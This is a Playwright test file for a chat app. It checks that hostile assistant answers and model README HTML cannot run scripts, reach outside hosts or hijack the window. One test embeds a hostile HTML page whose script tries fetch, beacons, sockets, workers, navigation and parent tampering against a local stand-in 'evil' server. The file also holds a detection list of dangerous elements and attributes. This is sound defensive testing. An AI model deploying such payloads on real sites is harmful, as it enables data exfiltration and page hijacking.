import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Locator, Page } from 'playwright-core';
import { expect, test } from 'vitest';
import { paddockTinyPath } from '../fixtures.ts';
import { connectTo, type Client } from '../harness/connect.ts';
import { describeWithBrowser } from '../harness/describe-with-browser.ts';
import { startHeadless } from '../harness/headless.ts';
import { driveWindow } from '../harness/window.ts';
import { fileContent } from '../hub/content.ts';
import { startHub } from '../hub/hub.ts';
import { hostileHtml, hostileTexts } from './hostile-texts.ts';

/** Longer than this, and a person would think that the window hangs. Of the processor's time, whatever else runs. */
const longestMs = 3000;

/** A server that nobody may ask anything: it writes down what it is asked. */
async function startEvil() {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(`${request.method ?? ''} ${request.url ?? ''}`);
    response.setHeader('access-control-allow-origin', '*');
    response.end();
  });
  // A connection that carries no request tells its server enough.
  server.on('connection', () => asked.push('connected'));
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return {
    address: `http://127.0.0.1:${port}`,
    asked,
    [Symbol.asyncDispose]: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

async function makeChat(client: Client, title: string, text: string): Promise<void> {
  const { id: chatId } = await client.chats.create({});
  await client.chats.update({ chatId, title });
  const { id: parentId } = await client.chats.insert({ chatId, parentId: null, role: 'user', text: 'Go on.' });
  await client.chats.insert({ chatId, parentId, role: 'assistant', text });
}

/** What of a stranger's text should not be there: elements that act, attributes that run, reach out or cover the window. */
function findForbidden(text: Locator): Promise<string[]> {
  return text.evaluateAll((roots) => {
    const elements = new Set(
      (
        'script iframe object embed applet form link meta base style video audio frame frameset portal fencedframe ' +
        'template slot textarea select dialog foreignObject use set animate image isindex marquee'
      ).split(' '),
    );
    const addresses = /^(?:href|src|action|formaction|xlink:href|data|ping|background|poster|srcset|code)$/;
    const drawn = /^data:image\/svg\+xml;charset=utf-8,/;
    return roots.flatMap((root) =>
      [...root.querySelectorAll('*')].flatMap((element) => {
        const { localName } = element;
        const found = elements.has(localName) ? [localName] : [];
        if (localName === 'input' && element.getAttribute('type') !== 'checkbox') found.push('input');
        if (element.hasAttribute('target') && !element.getAttribute('rel')?.includes('noopener')) found.push('target');
        if (getComputedStyle(element).position === 'fixed') found.push(`${localName} covers`);
        for (const { name, value } of element.attributes) {
          const isAddress = addresses.test(name) && !/^(?:https?|mailto):/.test(value);
          const isDrawing = localName === 'img' && name === 'src' && drawn.test(value);
          const reaches = name === 'style' && /url|image|\\/i.test(value);
          if (name.startsWith('on') || (isAddress && !isDrawing) || reaches) found.push(`${localName} ${name}`);
        }
        return found;
      }),
    );
  });
}

/** Whether something of it ran, or took the place of what the page relies on. */
function hasRun(page: Page): Promise<boolean> {
  return page.evaluate(
    () =>
      'pwned' in globalThis ||
      'pwned' in {} ||
      typeof document.getElementById !== 'function' ||
      typeof document.cookie !== 'string',
  );
}

/** Writes down whom the page asks besides its own host, and what it puts before a person. */
function watch(page: Page, own: string): { strangers: string[]; dialogs: string[] } {
  const strangers: string[] = [];
  const dialogs: string[] = [];
  page.on('request', (request) => {
    if (!request.url().startsWith(own) && !/^(?:data|blob):/.test(request.url())) strangers.push(request.url());
  });
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return { strangers, dialogs };
}

/** Makes a function that says for how long the page's own thread has worked so far. */
async function watchBusiness(page: Page): Promise<() => Promise<number>> {
  const session = await page.context().newCDPSession(page);
  await session.send('Performance.enable', { timeDomain: 'threadTicks' });
  return async () => {
    const { metrics } = await session.send('Performance.getMetrics');
    return (metrics.find(({ name }) => name === 'TaskDuration')?.value ?? Number.NaN) * 1000;
  };
}

describeWithBrowser('a hostile answer', (openWindow) => {
  test('runs nothing, fetches nothing and stops nothing', { timeout: 600_000 }, async () => {
    await using evil = await startEvil();
    await using host = await startHeadless();
    using core = await connectTo(host.windowUrl);
    await using window = await openWindow(host.windowUrl);
    const { page } = window;
    await driveWindow(page).composer.waitFor();
    const own = new URL(host.windowUrl).origin;
    const watched = watch(page, own);
    const readBusyMs = await watchBusiness(page);

    const texts = hostileTexts(evil.address);
    expect(texts.length).toBeGreaterThanOrEqual(250);
    const [, first] = texts[0] ?? [];
    const chat = await core.client.chats.create({});
    const question = await core.client.chats.insert({
      chatId: chat.id,
      parentId: null,
      role: 'user',
      text: first ?? '',
    });
    await page.goto(`${own}/#/chat/${chat.id}`);
    for (const [name, text] of texts) {
      // Each is another answer to the one question, and the one that is shown.
      const before = await readBusyMs();
      const { id } = await core.client.chats.insert({
        chatId: chat.id,
        parentId: question.id,
        role: 'assistant',
        text,
      });
      await page.locator(`[data-message-id="${id}"]`).waitFor();
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve))));
      // What is fetched when it is first needed is waited for.
      if (name.startsWith('diagram')) await page.locator('.diagram img, .code-block output').first().waitFor();
      if (name.startsWith('formula')) await page.locator('.katex, .katex-error, [data-unread]').first().waitFor();
      await page.locator(`[data-message-id="${id}"] .markdown[data-whole="true"]`).waitFor({ state: 'attached' });
      expect((await readBusyMs()) - before, `${name} takes time`).toBeLessThan(longestMs);
      expect(await findForbidden(page.getByTestId('answer')), `${name} left something`).toEqual([]);
      expect(await hasRun(page), `${name} ran`).toBe(false);
    }
    // The window is still the window.
    await page.getByRole('textbox', { name: 'Message' }).fill('Still here.');
    expect(new URL(page.url()).origin).toBe(own);
    expect(page.context().pages()).toHaveLength(1);
    expect({ ...watched, asked: evil.asked }).toEqual({ strangers: [], dialogs: [], asked: [] });
    // Not even the window’s policy had anything to stop.
    expect(window.pageErrors).toEqual([]);
  });

  test('is as harmless where its HTML is read, on a page of the hub', { timeout: 300_000 }, async () => {
    await using evil = await startEvil();
    const pieces = hostileHtml(evil.address);
    const repositories = pieces.map(([, readme], index) => ({
      id: `hostile/page-${index}`,
      files: { 'tiny-F16.gguf': fileContent(paddockTinyPath) },
      card: { license: 'mit' },
      readme: `${readme}\n\nThe end.\n`,
    }));
    await using hub = await startHub({ repositories });
    await using host = await startHeadless({ env: { HF_ENDPOINT: hub.url, HF_TOKEN: '' } });
    await using window = await openWindow(host.windowUrl);
    const { page } = window;
    const watched = watch(page, new URL(host.windowUrl).origin);
    await page.getByRole('navigation', { name: 'Main' }).waitFor();
    for (const [index, [name]] of pieces.entries()) {
      await page.evaluate((hash) => (location.hash = hash), `#/discover/hostile/page-${index}`);
      await page
        .getByTestId('model-page')
        .getByRole('heading', { name: `page-${index}`, exact: true })
        .waitFor();
      const readme = page.getByTestId('readme');
      await readme.locator('.markdown').waitFor();
      expect(await findForbidden(readme), `${name} left something`).toEqual([]);
      expect(await hasRun(page), `${name} ran`).toBe(false);
    }
    expect(page.context().pages()).toHaveLength(1);
    expect({ ...watched, asked: evil.asked }).toEqual({ strangers: [], dialogs: [], asked: [] });
    // Not even the window’s policy had anything to stop.
    expect(window.pageErrors).toEqual([]);
  });

  test('may hold a page, which runs in its frame when a person looks at it and reaches nothing', async () => {
    await using evil = await startEvil();
    await using host = await startHeadless();
    using core = await connectTo(host.windowUrl);
    const { address } = evil;
    const page = `<h1 id="title">Hello</h1><a id="a" target="_blank" href="${address}/blank" ping="${address}/ping">x</a>
<form id="f" method="post" action="${address}/form"><input name="x"></form><img src="${address}/img">
<link rel="stylesheet" href="${address}/css"><link rel="preconnect" href="${address}"><meta http-equiv="refresh" content="0;url=${address}/refresh">
<style>@import "${address}/import"; body { background: url(${address}/bg) }</style><iframe src="${address}/frame"></iframe>
<script>
  const tries = [
    () => fetch('${address}/fetch').catch(() => {}),
    () => navigator.sendBeacon('${address}/beacon', 'x'),
    () => new WebSocket('${address.replace('http', 'ws')}/socket'),
    () => new EventSource('${address}/events'),
    () => open('${address}/open'),
    () => a.click(),
    () => f.submit(),
    () => import('${address}/module').catch(() => {}),
    () => (top.location = '${address}/top'),
    () => (parent.pwned = 1),
    () => parent.document.title,
    () => localStorage.getItem('x'),
    () => new Worker(URL.createObjectURL(new Blob(['fetch("${address}/worker")']))),
    () => new RTCPeerConnection(),
    () => {
      for (const rel of ['prefetch', 'preconnect', 'stylesheet', 'modulepreload', 'preload', 'manifest', 'icon']) {
        const link = document.createElement('link');
        Object.assign(link, { rel, href: '${address}/' + rel, as: 'script' });
        document.head.append(link);
      }
    },
    () => {
      const frame = document.createElement('iframe');
      frame.srcdoc = '<img src="${address}/srcdoc">';
      document.body.append(frame);
    },
  ];
  for (const attempt of tries) { try { attempt(); } catch {} }
  title.textContent = 'It ran';
  setTimeout(() => (location = '${address}/away'), 200);
</script>`;
    await makeChat(core.client, 'A page', `Here:\n\n\`\`\`html\n${page}\n\`\`\`\n`);
    await using window = await openWindow(host.windowUrl);
    const driver = driveWindow(window.page);
    await driver.chats.filter({ hasText: 'A page' }).click();
    await driver.answer.getByRole('button', { name: 'Show page' }).click();
    const frame = window.page.frameLocator('iframe[title="Page from the answer"]');
    await frame.getByRole('heading', { name: 'It ran' }).waitFor();
    // The last thing that it does is to try and leave, which ends it.
    await frame.getByRole('heading', { name: 'It ran' }).waitFor({ state: 'detached' });
    expect(evil.asked).toEqual([]);
    expect(window.page.context().pages()).toHaveLength(1);
    expect(await window.page.evaluate(() => 'pwned' in globalThis)).toBe(false);
    await driver.composer.fill('Still here.');
  });

  test('whose page never ends leaves the window alone', async () => {
    await using host = await startHeadless();
    using core = await connectTo(host.windowUrl);
    await makeChat(core.client, 'A loop', '```html\n<script>for (;;) {}</script>\n```');
    await using window = await openWindow(host.windowUrl);
    const driver = driveWindow(window.page);
    await driver.chats.filter({ hasText: 'A loop' }).click();
    await driver.answer.getByRole('button', { name: 'Show page' }).click();
    await driver.answer.locator('iframe').waitFor();
    await driver.composer.fill('Still here.');
    await driver.answer.getByRole('button', { name: 'Show code' }).click();
    await driver.answer.getByText('for (;;)').waitFor();
    expect(await driver.composer.inputValue()).toBe('Still here.');
  });
});
